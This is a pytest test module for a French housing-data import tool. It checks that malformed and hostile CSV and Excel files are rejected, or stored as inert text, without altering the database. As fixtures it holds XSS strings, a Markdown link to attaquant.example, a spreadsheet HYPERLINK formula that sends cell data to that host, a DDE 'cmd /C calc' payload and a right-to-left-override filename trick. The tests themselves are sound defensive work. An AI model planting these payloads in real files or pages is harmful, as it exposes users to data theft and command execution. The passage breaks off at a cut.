"""The hostile and broken files corpus (issue 7, "Bad input"): no file, however broken or
hostile, harms what is stored.

Every file of ``tests/fichiers_hostiles/`` is listed in CORPUS below with its data kind, what is
wrong with it and what the import must answer: the status, every error as (line, column, value)
and the French message. Big files (a 1 MB line, a file over the upload limit) and workbooks are
built at run time in the test's directory.

Each file goes through the real import (``data_loaders.importer``) on a real DuckDB file: the
sample database (``python -m dashboard init --sample``: 30 bailleurs, PACA 2024 → 30/09/2026)
plus a partial import and two replacements, so that every table holds rows — quarantine and
archives included. After a rejection every table must be exactly as before: the test compares a
digest of each table's sorted content (``empreintes``), not row counts.

Expected values are written by hand from the files (see fabriquer.py for their bytes); the
sample's import numbers follow sample_data/manifest.json (mad_2025_logiciel_a.csv is import n° 10).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tomllib
import zipfile
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path

import duckdb
import openpyxl
import pytest
from conftest import ROOT, TABLES, Fichiers, importer

from dashboard.exports import csv_excel, xlsx
from dashboard.initialisation import ouvrir
from data_loaders import annuler, profils
from data_loaders.correspondances import Definition, definir
from data_loaders.reading import TAILLE_MAX_OCTETS

CORPUS_DIR = Path(__file__).resolve().parent / "fichiers_hostiles"
ENTETE_MAD = ("Code bailleur;N° de référence;Date MAD;Code INSEE;Catégorie;Contingent;N° RPLS;QPV;"
              "Typologie;Financement;Année de construction;Issue;Date du bail;Candidat bailleur;"
              "Public prioritaire")
V1 = ("OLS01;OLS01-2025-900001;03/02/2025;13055;Flux réservataire;ETAT-13;1234567890;Non;T3;"
      "PLUS;1975;En cours;;Non;Non")
V2 = ("OLS01;OLS01-2025-900002;04/02/2025;04070;Non réservé;;;Oui;T2;PLAI;2001;Bail signé;"
      "20/02/2025;Non;Oui")
CHAMPS_15 = ("La ligne compte 1 champ au lieu de 15 (comme la ligne d'en-têtes) : vérifiez le "
             "séparateur et les guillemets.")
COMMUNE_INCONNUE = ("commune inconnue du référentiel des communes (code INSEE officiel attendu ; "
                    "pour une commune hors région, importez d'abord le fichier DGCL des communes)")
HORS_LIMITES_TAUX = "valeur hors limites : attendu entre 0 et 100"
# English of Python, DuckDB or openpyxl messages, which must never reach a user.
ANGLAIS = re.compile(r"\b(error|exception|traceback|invalid|expected|unexpected|cannot|could "
                     r"not|failed|not found|no such|codec|column \d|line \d|field|"
                     r"\w+(Error|Exception)|BadZipFile)\b", re.IGNORECASE)


@dataclass(frozen=True)
class Cas:
    fichier: str
    type_donnees: str
    defaut: str                                  # what is wrong with the file, in French
    erreurs: list[tuple]                         # (ligne, colonne, valeur) of every error
    messages: list[str]                          # the message of each error, in the same order
    quarantaine: list[int] = field(default_factory=list)   # partial import: lines kept aside
    encodage: str = "cp1252"                     # of the file, to read its lines in the test


FICHIER_ENTIER = []     # no line can be kept: a partial import rejects the file as well

CORPUS: list[Cas] = [
    # ------------------------------------------------------------------ the file as a whole
    Cas("vide.csv", "mises_a_disposition", "fichier vide (0 octet)",
        [(None, None, None)], ["Le fichier est vide."]),
    Cas("espaces_seuls.csv", "mises_a_disposition", "des espaces et des fins de ligne, rien d'autre",
        [(None, None, None)], ["Le fichier est vide."]),
    Cas("bom_seul.csv", "mises_a_disposition", "la marque d'ordre UTF-8 (BOM), rien d'autre",
        [(1, None, None)],
        ["La première ligne est vide : elle doit contenir les en-têtes de colonnes."]),
    Cas("mad_entetes_seules.csv", "mises_a_disposition", "la ligne d'en-têtes seule",
        [(None, None, None)],
        ["Le fichier ne contient que la ligne d'en-têtes : aucune ligne de données."]),
    Cas("image_renommee.csv", "mises_a_disposition", "une image PNG renommée en .csv",
        [(None, None, None)],
        ["Le fichier semble binaire (octets nuls) : ce n'est pas un fichier texte CSV. Exportez "
         "les données en CSV ou en .xlsx."]),
    Cas("archive_zip_renommee.csv", "mises_a_disposition",
        "une archive ZIP (qui contient un CSV) renommée en .csv",
        [(None, None, None)],
        ["Le fichier est une archive ZIP, pas un fichier CSV ni un classeur Excel."]),
    Cas("csv_renomme.xlsx", "mises_a_disposition", "un CSV renommé en .xlsx",
        [(None, None, None)],
        ["Le fichier porte l'extension .xlsx mais n'est pas un classeur Excel valide."]),
    Cas("classeur_tronque.xlsx", "mises_a_disposition",
        "les 1 000 premiers octets d'un vrai classeur (téléchargement interrompu)",
        [(None, None, None)],
        ["Classeur Excel illisible : ouvrez-le dans Excel et enregistrez-le à nouveau en .xlsx."]),
    Cas("mad_separateur_barre.csv", "mises_a_disposition", "séparateur « | »",
        [(1, None, ENTETE_MAD.replace(";", "|")[:200])],
        ["Une seule colonne trouvée dans la ligne d'en-têtes : le séparateur doit être le "
         "point-virgule, la virgule ou la tabulation ; le fichier semble séparé par « | ». "
         "Enregistrez le fichier en CSV avec l'un de ces séparateurs."]),
    Cas("mad_encodages_melanges.csv", "mises_a_disposition",
        "en-têtes et ligne 2 en UTF-8, ligne 3 en Windows-1252 (deux exports recollés)",
        [(3, None, V2)],
        ["Encodages mélangés : les lignes 1, 2 en UTF-8, la ligne 3 en Windows-1252 (accents "
         "codés autrement). Enregistrez le fichier avec un seul encodage, UTF-8 de préférence, "
         "puis importez-le à nouveau."]),
    Cas("mad_guillemet_dans_les_entetes.csv", "mises_a_disposition",
        "un guillemet ouvert et jamais fermé au début des en-têtes",
        [(1, None, ('"' + ENTETE_MAD)[:200])],
        ["Guillemet non fermé dans la ligne d'en-têtes : chaque guillemet ouvrant doit avoir son "
         "guillemet fermant."]),
    Cas("mad_colonne_sans_entete.csv", "mises_a_disposition",
        "une 16e colonne sans en-tête, remplie à la ligne 3",
        [(3, None, "note interne")],
        ["La colonne P (n° 16) n'a pas d'en-tête mais contient des valeurs (ligne 3 : « note "
         "interne ») : donnez-lui un en-tête ou supprimez-la."]),
    Cas("mad_trop_de_colonnes.csv", "mises_a_disposition",
        "1 200 séparateurs de plus dans la ligne d'en-têtes (1 215 colonnes)",
        [(1, None, (ENTETE_MAD + ";" * 1200)[:200])],
        ["La ligne d'en-têtes compte 1\u202f215 colonnes (1\u202f000 au plus) : vérifiez le "
         "séparateur."]),
    Cas("mad_entetes_piegees.csv", "mises_a_disposition",
        "HTML et lien Markdown à la place de deux en-têtes obligatoires",
        [(1, "bailleur_code", None), (1, "categorie", None)],
        ["Colonne obligatoire « bailleur_code » (code bailleur) introuvable. En-têtes trouvés : "
         "« <script>alert('entete')</script> », « N° de référence »",
         "Colonne obligatoire « categorie » (catégorie) introuvable. En-têtes trouvés : "
         "« <script>alert('entete')</script> », « N° de référence »"],
        encodage="utf-8"),
    # --------------------------------------------------------------------- line by line
    Cas("mad_separateur_des_donnees.csv", "mises_a_disposition",
        "en-têtes séparés par « ; », données par « , »",
        [(2, None, V1.replace(";", ",")), (3, None, V2.replace(";", ","))],
        [CHAMPS_15, CHAMPS_15], quarantaine=FICHIER_ENTIER),
    Cas("mad_guillemet_non_ferme.csv", "mises_a_disposition",
        "un guillemet ouvert ligne 3 et jamais fermé : il avale la ligne 4",
        [(3, None, ('OLS01;"OLS01-2025-900003;05/02/2025;13055;Flux réservataire;ETAT-13;;Non;T4;'
                    "PLUS;1980;En cours;;Non;Non\r\n" + V2 + '"')[:200])],
        ["Guillemet non fermé : les lignes 3 à 4 ont été lues comme un seul enregistrement de "
         "2 champs au lieu de 15. Fermez le guillemet ou retirez-le."],
        quarantaine=[3]),
    Cas("mad_date_impossible.csv", "mises_a_disposition", "date du 31/02/2025 ligne 3",
        [(3, "date_mise_a_disposition", "31/02/2025")],
        ["date existante attendue au format JJ/MM/AAAA ou AAAA-MM-JJ"], quarantaine=[3]),
    Cas("mad_communes_inconnues.csv", "mises_a_disposition",
        "code INSEE qui n'existe pas (99999) et commune hors du référentiel PACA (Paris, 75056)",
        [(3, "code_insee", "99999"), (4, "code_insee", "75056")],
        [COMMUNE_INCONNUE, COMMUNE_INCONNUE], quarantaine=[3, 4]),
    Cas("mad_doublons_dans_le_fichier.csv", "mises_a_disposition",
        "la référence de la ligne 2 répétée ligne 4",
        [(4, "reference", "OLS01-2025-900001")],
        ["référence en double dans le fichier : déjà présente ligne 2"], quarantaine=[4]),
    Cas("mad_doublon_avec_la_base.csv", "mises_a_disposition",
        "fichier 2026 qui reprend une référence de 2025 déjà en base (OLS01-2025-000002)",
        [(3, "reference", "OLS01-2025-000002")],
        ["référence déjà importée pour ce bailleur (import n° 10, mise à disposition du "
         "02/01/2025) : une référence est unique par bailleur"], quarantaine=[3]),
    Cas("mad_caracteres_invisibles.csv", "mises_a_disposition",
        "séquence d'échappement ANSI ligne 3, inversion droite-à-gauche (U+202E) ligne 4",
        [(3, "reference", "OLS01-2025-900003\x1b[31m"),
         (4, "reference", "OLS01-2025-900004\u202egnp.exe")],
        ["caractère invisible interdit (U+001B) : retirez-le de la cellule",
         "caractère invisible interdit (U+202E) : retirez-le de la cellule"],
        quarantaine=[3, 4], encodage="utf-8"),
    Cas("parc_nombres_negatifs_et_absurdes.csv", "parc",
        "parc négatif, 99 999 999 999 libérations, année 20255, « NaN », « 1e400 »",
        [(2, "parc_total", "-12"), (3, "liberations", "99999999999"),
         (3, "liberations", "99999999999"), (4, "annee", "20255"),
         (5, "mutations_prevues", "NaN"), (6, "parc_total", "1e400")],
        # the two faults of line 3's cell in the order of the rules: its bounds, then the parc
        ["valeur hors limites : attendu entre 0 et 1 000 000",
         "valeur hors limites : attendu entre 0 et 1 000 000",
         "libérations supérieures au parc total (120)",
         "valeur hors limites : attendu entre 2 000 et 2 100",
         "nombre entier attendu (ex. 1 234)", "nombre entier attendu (ex. 1 234)"],
        quarantaine=[2, 3, 4, 5, 6], encodage="utf-8-sig"),
    Cas("conventions_taux_superieurs_a_100.csv", "conventions", "taux du flux de 150 et « 100,5 % »",
        [(3, "taux_flux", "150"), (4, "taux_flux", "100,5 %")],
        [HORS_LIMITES_TAUX, HORS_LIMITES_TAUX], quarantaine=[3, 4]),
    Cas("conventions_doublons_dans_le_fichier.csv", "conventions",
        "la même convention deux fois (code du périmètre vide puis « 13 »)",
        [(3, "reservataire_code", "ETAT-13")],
        ["convention (bailleur, réservataire, périmètre, année) en double dans le fichier : déjà "
         "présente ligne 2"], quarantaine=[3]),
]

# Hostile text that is data all the same: imported as written, never run or rendered.
ACCEPTES = {
    "conventions_html_script.csv": "HTML, script et Markdown dans les textes",
    "conventions_injection_formule.csv": "cellules commençant par =, +, - et @ (injection de "
                                         "formule dans un tableur)",
}


def _cas(nom: str) -> Cas:
    return next(c for c in CORPUS if c.fichier == nom)


# ====================================================================== the database to protect

@pytest.fixture(scope="module")
def modele_exemple(tmp_path_factory, base_exemple) -> Path:
    """The sample database, plus a partial import (a quarantined line, OLS30 × 2024 replaced)
    and a conventions replacement: every table holds rows. Built once per module."""
    dossier = tmp_path_factory.mktemp("exemple")
    chemin = dossier / "exemple.duckdb"
    shutil.copyfile(base_exemple, chemin)
    con = ouvrir(chemin)
    assert con.execute("SELECT max(import_id) FROM journal_imports").fetchone() == (16,)
    fichiers = Fichiers(dossier)
    r = importer(con, "mises_a_disposition", fichiers.texte(
        ENTETE_MAD + "\n"
        "OLS30;OLS30-2024-900001;03/02/2024;83137;Flux réservataire;ETAT-83;;Non;T3;PLUS;1975;"
        "En cours;;Non;Non\n"
        "OLS30;OLS30-2024-900002;04/02/2024;99999;Mutation interne;;;Non;T2;PLUS;1990;En cours;"
        ";Non;Non\n"), partiel=True)
    assert (r.statut, r.import_id, r.lignes_rejetees) == ("importe", 17, 1)
    r = importer(con, "conventions", fichiers.texte(
        "Code bailleur;Code réservataire;Type de réservataire;Département;Année;Statut;"
        "Date de signature;Taux (%)\nOLS02;ALS;Action Logement;13;2025;Signée;22/07/2024;21\n"))
    assert (r.statut, r.import_id, r.lignes_importees) == ("importe", 18, 1)
    r = importer(con, "parc", fichiers.texte(
        "Code bailleur;Code INSEE;Année;Parc total;Libérations\nOLS03;13055;2025;400;31\n"))
    assert (r.statut, r.import_id) == ("importe", 19)
    r = importer(con, "documents_epci", fichiers.texte(
        "SIREN EPCI;Document;Statut;Date\n200067437;CIL;Adopté;05/05/2025\n"))
    assert (r.statut, r.import_id) == ("importe", 20)
    # The DGCL file for Digne-les-Bains: one commune and its EPCI replaced.
    r = importer(con, "communes", fichiers.texte(
        "dept;siren;raison_sociale;nature_juridique;insee;nom_membre;pmun_2025\n"
        "04;200067437;CA Provence-Alpes-Agglomération;CA;04070;Digne-les-Bains;17980\n"))
    assert (r.statut, r.import_id) == ("importe", 21)
    # An import rolled back, so that the journal of rollbacks holds a row too.
    r = importer(con, "documents_epci", fichiers.texte(
        "SIREN EPCI;Document;Statut;Date\n200067437;PPGD;Adopté;06/06/2025\n",
        nom="annule.csv"))
    assert (r.statut, r.import_id) == ("importe", 22)
    annuler(con, 22, utilisateur="admin@dreal.example")
    # A réservataire written as a name (an automatic correspondence), one set by hand, and a
    # profile of headers, so that the referential's tables hold rows too.
    r = importer(con, "mises_a_disposition", fichiers.texte(
        ENTETE_MAD + "\n"
        "OLS30;OLS30-2024-900003;05/02/2024;83137;Flux réservataire;Préfecture du Var;;Non;T3;"
        "PLUS;1975;En cours;;Non;Non\n"))
    assert (r.statut, r.import_id) == ("importe", 23)
    definir(con, [Definition("OLS30", "Préf. Var (agents)", "ETAT-AG-83")],
            utilisateur="admin@dreal.example")
    profils.enregistrer(con, "parc", ["Code bailleur", "Commune", "Année"],
                        {"code_insee": "Commune"}, "OLS03", "admin@dreal.example")
    etat = empreintes(con)
    for table in TABLES:
        assert etat[table][0] > 0, f"{table} devrait contenir des lignes"
    con.close()
    return chemin


@pytest.fixture
def base(tmp_path, modele_exemple):
    chemin = tmp_path / "exemple.duckdb"
    shutil.copyfile(modele_exemple, chemin)
    con = duckdb.connect(str(chemin))
    yield con
    con.close()


def empreintes(con) -> dict[str, tuple[int, str]]:
    """Every table of the database: (row count, md5 of its rows cast to text and sorted)."""
    noms = sorted(r[0] for r in con.execute(
        "SELECT table_name FROM information_schema.tables "
        "WHERE table_schema = 'main' AND table_type = 'BASE TABLE'").fetchall())
    assert set(TABLES) <= set(noms)
    return {t: con.execute(
        f"SELECT count(*), md5(coalesce(string_agg(CAST(t AS VARCHAR), chr(10) "
        f"ORDER BY CAST(t AS VARCHAR)), '')) FROM {t} t").fetchone() for t in noms}


def _en_francais(message: str) -> None:
    assert not ANGLAIS.search(message), f"anglais dans le message : {message!r}"


def _lignes_du_fichier(chemin: Path, encodage: str) -> dict[int, str]:
    """Physical line number -> text, as a text editor shows the file."""
    texte = chemin.read_bytes().decode(encodage)
    return dict(enumerate(texte.replace("\r\n", "\n").split("\n"), start=1))


# ============================================================ every file: rejected, nothing moves

def test_le_corpus_est_complet():
    """Every committed file is described here, and every file described is committed."""
    sur_disque = {p.name for p in CORPUS_DIR.iterdir()} - {"fabriquer.py", "README.md"}
    assert sur_disque == {c.fichier for c in CORPUS} | set(ACCEPTES)
    assert all(len(c.erreurs) == len(c.messages) for c in CORPUS)


@pytest.mark.parametrize("cas", CORPUS, ids=[c.fichier for c in CORPUS])
def test_fichier_rejete_en_francais_et_base_intacte(base, cas):
    avant = empreintes(base)
    rapport = importer(base, cas.type_donnees, CORPUS_DIR / cas.fichier)
    assert rapport.statut == "rejete"
    assert rapport.import_id is None and rapport.lignes_importees == 0
    assert [(e.ligne, e.colonne, e.valeur) for e in rapport.erreurs] == cas.erreurs
    for erreur, attendu in zip(rapport.erreurs, cas.messages):
        assert erreur.message.startswith(attendu), (erreur.message, attendu)
        _en_francais(erreur.message)
    assert rapport.message.startswith("Fichier rejeté : ")
    _en_francais(rapport.message)
    assert empreintes(base) == avant


PARTIELS = [c for c in CORPUS if c.quarantaine]


@pytest.mark.parametrize("cas", PARTIELS, ids=[c.fichier for c in PARTIELS])
def test_import_partiel_quarantaine_exactement_les_lignes_fautives(base, cas):
    chemin = CORPUS_DIR / cas.fichier
    lignes = _lignes_du_fichier(chemin, cas.encodage)
    donnees = [n for n, texte in lignes.items() if n > 1 and texte]
    # A line swallowed by an unclosed quote belongs to the quarantined record before it.
    avalees = {4} if cas.fichier == "mad_guillemet_non_ferme.csv" else set()
    valides = [n for n in donnees if n not in cas.quarantaine and n not in avalees]
    avant = empreintes(base)
    rapport = importer(base, cas.type_donnees, chemin, partiel=True)
    assert rapport.statut == "importe", rapport.message
    assert rapport.lignes_importees == len(valides)
    assert rapport.lignes_rejetees == len(cas.quarantaine)
    quarantaine = base.execute("SELECT ligne, contenu FROM quarantaine WHERE import_id = ? "
                               "ORDER BY ligne", [rapport.import_id]).fetchall()
    if avalees:
        attendu = [(3, 'OLS01;"' + lignes[3].split('"', 1)[1] + "\r\n" + lignes[4] + '"')]
    else:
        attendu = [(n, lignes[n]) for n in cas.quarantaine]
    assert quarantaine == attendu
    # Only the dataset's own tables, the journal, the quarantine and the replacement records
    # changed: the reference and the other datasets are untouched.
    touchees = {cas.type_donnees, f"archive_{cas.type_donnees}", "journal_imports",
                "quarantaine", "remplacements"}
    apres = empreintes(base)
    assert {t: v for t, v in apres.items() if t not in touchees} == {
        t: v for t, v in avant.items() if t not in touchees}
    assert apres["quarantaine"][0] == avant["quarantaine"][0] + len(cas.quarantaine)


def test_import_partiel_sans_aucune_ligne_valide_rien_n_est_ecrit(base):
    avant = empreintes(base)
    rapport = importer(base, "mises_a_disposition",
                       CORPUS_DIR / "mad_separateur_des_donnees.csv", partiel=True)
    assert rapport.statut == "rejete"
    assert rapport.message == "Fichier rejeté : aucune ligne valide. Rien n'a été importé."
    assert empreintes(base) == avant


# ================================================================ built at run time: big files

def test_valeur_d_un_mega_octet(base, tmp_path):
    reference = "A" * (1 << 20)
    chemin = tmp_path / "mad_reference_1_mo.csv"
    ligne = V1.replace("OLS01-2025-900001", reference)
    chemin.write_text(f"{ENTETE_MAD}\n{ligne}\n{V2}\n", encoding="utf-8")
    avant = empreintes(base)
    rapport = importer(base, "mises_a_disposition", chemin)
    assert [(e.ligne, e.colonne, e.valeur, e.message) for e in rapport.erreurs] == [
        (2, "reference", "A" * 200 + "…", "valeur trop longue (1 048 576 caractères) : 100 au plus")]
    assert empreintes(base) == avant
    # Partial: the whole line, 1 MB and all, waits in the quarantine; nothing is cut.
    rapport = importer(base, "mises_a_disposition", chemin, partiel=True)
    assert (rapport.statut, rapport.lignes_importees) == ("importe", 1)
    assert base.execute("SELECT ligne, contenu = ? FROM quarantaine WHERE import_id = ?",
                        [ligne, rapport.import_id]).fetchall() == [(2, True)]


def test_ligne_d_un_mega_octet_sans_separateur(base, tmp_path):
    chemin = tmp_path / "mad_ligne_1_mo.csv"
    chemin.write_text(f"{ENTETE_MAD}\n{V1}\n{'x' * (1 << 20)}\n", encoding="utf-8")
    avant = empreintes(base)
    rapport = importer(base, "mises_a_disposition", chemin)
    assert [(e.ligne, e.colonne, e.valeur, e.message) for e in rapport.erreurs] == [
        (3, None, "x" * 200, CHAMPS_15)]
    assert empreintes(base) == avant


def test_ligne_de_plus_de_4_mo(base, tmp_path):
    chemin = tmp_path / "mad_ligne_5_mo.csv"
    chemin.write_text(f"{ENTETE_MAD}\n{V1}\n{'x' * (5 << 20)}\n", encoding="utf-8")
    avant = empreintes(base)
    rapport = importer(base, "mises_a_disposition", chemin)
    assert [(e.ligne, e.message) for e in rapport.erreurs] == [
        (3, "Ligne trop longue pour être lue (plus de 4 Mo) : vérifiez le fichier.")]
    assert empreintes(base) == avant


def test_octet_nul_loin_dans_le_fichier(base, tmp_path):
    # Past the first 8 KiB (where a null byte means "binary file"): the line says it.
    lignes = [V1.replace("900001", f"9{i:05d}") for i in range(100)]
    chemin = tmp_path / "mad_octet_nul.csv"
    nul = V2.replace("OLS01-2025-900002", "OLS01-2025-\x00900002")
    chemin.write_text("\n".join([ENTETE_MAD, *lignes, nul]) + "\n", encoding="utf-8")
    assert chemin.read_bytes().index(b"\x00") > 8192
    avant = empreintes(base)
    rapport = importer(base, "mises_a_disposition", chemin)
    assert [(e.ligne, e.colonne, e.valeur, e.message) for e in rapport.erreurs] == [
        (102, "reference", "OLS01-2025-\x00900002",
         "caractère invisible interdit (U+0000) : retirez-le de la cellule")]
    assert empreintes(base) == avant


def test_fichier_au_dela_de_la_limite_refuse_sans_etre_lu(base, tmp_path):
    chemin = tmp_path / "mad_trop_gros.csv"
    with open(chemin, "wb") as f:      # sparse: 200 Mo + 1 octet on disk for nothing
        f.write(ENTETE_MAD.encode("utf-8") + b"\n")
        f.truncate(TAILLE_MAX_OCTETS + 1)
    avant = empreintes(base)
    rapport = importer(base, "mises_a_disposition", chemin)
    assert [(e.ligne, e.colonne, e.valeur, e.message) for e in rapport.erreurs] == [
        (None, None, "200 Mo", "Fichier trop volumineux : la limite est de 200 Mo. Découpez-le "
                               "(par année par exemple).")]
    assert empreintes(base) == avant


def test_la_limite_du_lecteur_est_celle_du_televersement():
    """Streamlit refuses an upload over server.maxUploadSize (in MiB); the reader refuses the
    same size, so the command line and the page agree."""
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["server"]["maxUploadSize"] == 200
    assert TAILLE_MAX_OCTETS == 200 * 1024 * 1024


# ================================================================= workbooks built at run time

def _classeur(chemin: Path, remplir) -> Path:
    classeur = openpyxl.Workbook()
    feuille = classeur.active
    feuille.title = "MAD"
    remplir(feuille)
    classeur.save(chemin)
    return chemin


ENTETES_XLSX = ENTETE_MAD.split(";")
LIGNE_XLSX = V1.split(";")


def _sans_donnees(ws):
    pass


def _entetes_seules(ws):
    ws.append(ENTETES_XLSX)


def _titre_fusionne(ws):
    ws.append(["Export des mises à disposition 2025 — OLS01"])
    ws.merge_cells("A1:O1")
    ws.append(ENTETES_XLSX)
    ws.append(LIGNE_XLSX)


def _entetes_fusionnes(ws):
    ws.append(["Code bailleur", None, *ENTETES_XLSX[1:]])
    ws.merge_cells("A1:B1")
    ws.append(["OLS01", "Habitat des Trois Vallées", *LIGNE_XLSX[1:]])


def _formule_sans_valeur(ws):
    ws.append(ENTETES_XLSX)
    ws.append(["OLS01", '="OLS01-2025-"&TEXTE(900001;"0")', *LIGNE_XLSX[2:]])


CLASSEURS = {
    "sans_donnees": (_sans_donnees, (None, None, None),
                     "La feuille « MAD » est vide : aucune ligne d'en-têtes ni de données."),
    "entetes_seules": (_entetes_seules, (None, None, None),
                       "La feuille « MAD » ne contient que la ligne d'en-têtes : aucune ligne de "
                       "données."),
    "entetes_fusionnes": (_entetes_fusionnes, (1, None, "A1:B1"),
                          "La ligne d'en-têtes (ligne 1) contient des cellules fusionnées (A1:B1) : "
                          "chaque colonne doit avoir son propre en-tête, sur une seule ligne. "
                          "Supprimez les lignes de titre au-dessus des en-têtes et annulez la "
                          "fusion des cellules."),
    # openpyxl writes formulas without their computed value, as some exporting tools do.
    "formule_sans_valeur": (_formule_sans_valeur, (None, None, '="OLS01-2025-"&TEXTE(900001;"0")'),
                            'Formules sans valeur calculée : B2 (="OLS01-2025-"&TEXTE(900001;"0")). '
                            "Ouvrez le classeur dans Excel et enregistrez-le (les valeurs seront "
                            "calculées), ou remplacez les formules par leurs valeurs."),
}


@pytest.mark.parametrize("nom", list(CLASSEURS))
def test_classeur_hostile(base, tmp_path, nom):
    remplir, erreur, message = CLASSEURS[nom]
    chemin = _classeur(tmp_path / f"{nom}.xlsx", remplir)
    avant = empreintes(base)
    rapport = importer(base, "mises_a_disposition", chemin)
    assert rapport.statut == "rejete"
    assert [(e.ligne, e.colonne, e.valeur) for e in rapport.erreurs] == [erreur]
    assert rapport.erreurs[0].message.startswith(message)
    _en_francais(rapport.erreurs[0].message)
    assert empreintes(base) == avant


def test_titre_fusionne_au_dessus_des_en_tetes_lu(base, tmp_path):
    """A merged title row above the headers is a title, as exports have (issue 12): skipped,
    the header read on row 2, the data row 3 imported. (It was refused until issue 12.)"""
    chemin = _classeur(tmp_path / "titre_fusionne.xlsx", _titre_fusionne)
    rapport = importer(base, "mises_a_disposition", chemin)
    assert (rapport.statut, rapport.lignes_importees) == ("importe", 1), rapport.erreurs
    assert (rapport.lecture.ligne_entetes, rapport.lecture.lignes_titre) == (2, 1)
    assert rapport.lecture.titres == ["Export des mises à disposition 2025 — OLS01"]
    assert base.execute("SELECT reference FROM mises_a_disposition WHERE import_id = ?",
                        [rapport.import_id]).fetchall() == [("OLS01-2025-900001",)]


def test_classeur_cellule_numerique_abimee_et_formule(base, tmp_path):
    """One formula (so the formulas' pass walks the sheet too) and one numeric cell whose value
    is not a number (``<c t="n"><v>abc</v></c>``, as a damaged file holds): openpyxl raises
    while walking the sheet; the user reads a French rejection, in the preview as in the
    import, and nothing is written."""
    def remplir(ws):
        ws.append(ENTETES_XLSX)
        ligne = LIGNE_XLSX.copy()
        ligne[1] = '="OLS01-2025-"&"900001"'
        ligne[10] = 1975                              # Année de construction, a number
        ws.append(ligne)

    sain = _classeur(tmp_path / "sain.xlsx", remplir)
    chemin = tmp_path / "cellule_abimee.xlsx"
    with zipfile.ZipFile(sain) as source, zipfile.ZipFile(chemin, "w") as cible:
        for info in source.infolist():
            contenu = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                abime = contenu.replace(b'<c r="K2" t="n"><v>1975</v></c>',
                                        b'<c r="K2" t="n"><v>abc</v></c>')
                assert abime != contenu
                contenu = abime
            cible.writestr(info, contenu)
    avant = empreintes(base)
    for simulation in (True, False):
        rapport = importer(base, "mises_a_disposition", chemin, simulation=simulation)
        assert rapport.statut == "rejete"
        assert [(e.ligne, e.colonne, e.valeur, e.message) for e in rapport.erreurs] == [
            (None, None, None, "Feuille « MAD » illisible : ouvrez le classeur dans Excel et "
                               "enregistrez-le à nouveau en .xlsx.")]
    assert empreintes(base) == avant


# ====================================================== hostile text is data: stored as written

def test_html_et_script_stockes_tels_quels(base):
    avant = empreintes(base)
    rapport = importer(base, "conventions", CORPUS_DIR / "conventions_html_script.csv")
    assert (rapport.statut, rapport.lignes_importees) == ("importe", 1)
    assert base.execute(
        "SELECT bailleur_nom, reservataire_nom, motif_non_signature FROM conventions "
        "WHERE import_id = ?", [rapport.import_id]).fetchall() == [
        ('<script>alert("flux")</script>', "<img src=x onerror=alert(1)>",
         "[Cliquez ici](https://attaquant.example/) **urgent**")]
    apres = empreintes(base)
    for table in ("communes", "epci", "parc", "mises_a_disposition", "documents_epci",
                  "quarantaine"):
        assert apres[table] == avant[table]


INJECTIONS = [
    ("@SOMME(1+1)", "ETAT-13", '=LIEN_HYPERTEXTE("https://attaquant.example/?d="&A1;"Voir")'),
    ("Habitat des Trois Vallées", "ALS", "-2+3+cmd|' /C calc'!A0"),
]


def test_injection_de_formule_stockee_puis_neutralisee_a_l_export(base):
    rapport = importer(base, "conventions", CORPUS_DIR / "conventions_injection_formule.csv")
    assert (rapport.statut, rapport.lignes_importees) == ("importe", 2)
    df = base.execute(
        "SELECT bailleur_nom, reservataire_code, motif_non_signature, reservataire_nom "
        "FROM conventions WHERE import_id = ? ORDER BY reservataire_code DESC",
        [rapport.import_id]).df()
    assert [tuple(r) for r in df[["bailleur_nom", "reservataire_code",
                                  "motif_non_signature"]].itertuples(index=False)] == INJECTIONS
    assert list(df["reservataire_nom"]) == ["Préfet des Bouches-du-Rhône", "+33 4 91 00 00 00"]

    # CSV for Excel: every cell a spreadsheet would run starts with an apostrophe.
    texte = csv_excel(df).decode("utf-8-sig")
    cellules = list(csv.reader(io.StringIO(texte), delimiter=";"))
    assert cellules[1][0] == "'@SOMME(1+1)"
    assert cellules[1][2] == "'" + INJECTIONS[0][2]
    assert cellules[2][2] == "'" + INJECTIONS[1][2]
    assert cellules[2][3] == "'+33 4 91 00 00 00"
    # Workbook: text cells, never formulas.
    classeur = openpyxl.load_workbook(io.BytesIO(xlsx({"Conventions": df})))
    feuille = classeur["Conventions"]
    valeurs = [[c.value for c in rangee] for rangee in feuille.iter_rows(min_row=2)]
    assert valeurs[0][0] == "'@SOMME(1+1)" and valeurs[0][2] == "'" + INJECTIONS[0][2]
    assert valeurs[1][2] == "'" + INJECTIONS[1][2] and valeurs[1][3] == "'+33 4 91 00 00 00"
    assert all(c.data_type != "f" for rangee in feuille.iter_rows() for c in rangee)


# ===================================================================== duplicates against the base

def test_meme_fichier_d_exemple_a_nouveau_inchange(base):
    """A re-import of the very same file: "inchangé", and nothing at all moves."""
    avant = empreintes(base)
    rapport = importer(base, "mises_a_disposition",
                       ROOT / "sample_data" / "mad_2025_logiciel_a.csv")
    assert (rapport.statut, rapport.import_id) == ("inchange", 10)
    assert empreintes(base) == avant


def _lignes_vivantes(con, table: str, ou: str) -> list[tuple]:
    colonnes = [r[0] for r in con.execute(
        "SELECT column_name FROM information_schema.columns WHERE table_name = ? "
        "AND column_name <> 'import_id' "
        # remplace_par last: migration 003 added reservataire_valeur after it in the archive
        "ORDER BY column_name = 'remplace_par', ordinal_position", [table]).fetchall()]
    return con.execute(f"SELECT {', '.join(colonnes)} FROM {table} WHERE {ou} "
                       "ORDER BY ALL").fetchall()


def test_meme_contenu_sous_un_autre_encodage_remplace_sans_doubler(base, tmp_path):
    """The same rows in other bytes (UTF-8 instead of Windows-1252): a new version of the
    scope (OLS01…OLS15 × 2025) that replaces the old one, row for row — nothing doubles."""
    source = ROOT / "sample_data" / "mad_2025_logiciel_a.csv"
    copie = tmp_path / "mad_2025_logiciel_a_utf8.csv"
    copie.write_bytes(source.read_bytes().decode("cp1252").encode("utf-8"))
    ou = "import_id = 10"
    lignes = _lignes_vivantes(base, "mises_a_disposition", ou)
    total = base.execute("SELECT count(*) FROM mises_a_disposition").fetchone()[0]
    rapport = importer(base, "mises_a_disposition", copie)
    assert rapport.statut == "importe" and rapport.remplaces == [10]
    assert rapport.lignes_importees == len(lignes)
    assert _lignes_vivantes(base, "mises_a_disposition",
